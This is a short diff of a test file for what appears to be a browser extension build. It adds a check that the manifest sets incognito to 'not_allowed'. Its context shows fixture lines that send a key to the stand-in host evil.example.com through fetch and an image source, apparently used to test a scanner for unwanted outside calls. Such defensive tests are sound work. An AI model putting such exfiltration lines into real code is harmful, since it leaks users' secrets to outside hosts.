@@ -16,6 +16,11 @@ it("names only Close's hosts, turns no text into code or markup, and opens no ot
   expect(found.flat()).toEqual([]);
 });
 
+it('does not run in incognito windows, which share the storage on the disk', async () => {
+  const manifest = JSON.parse(await readFile(join(build, 'manifest.json'), 'utf8'));
+  expect(manifest).toMatchObject({ incognito: 'not_allowed' });
+});
+
 it.each([
   ['a.js', "fetch('https://evil.example.com/?key')"],
   ['a.js', "image.src = '//evil.example.com/?key'"],
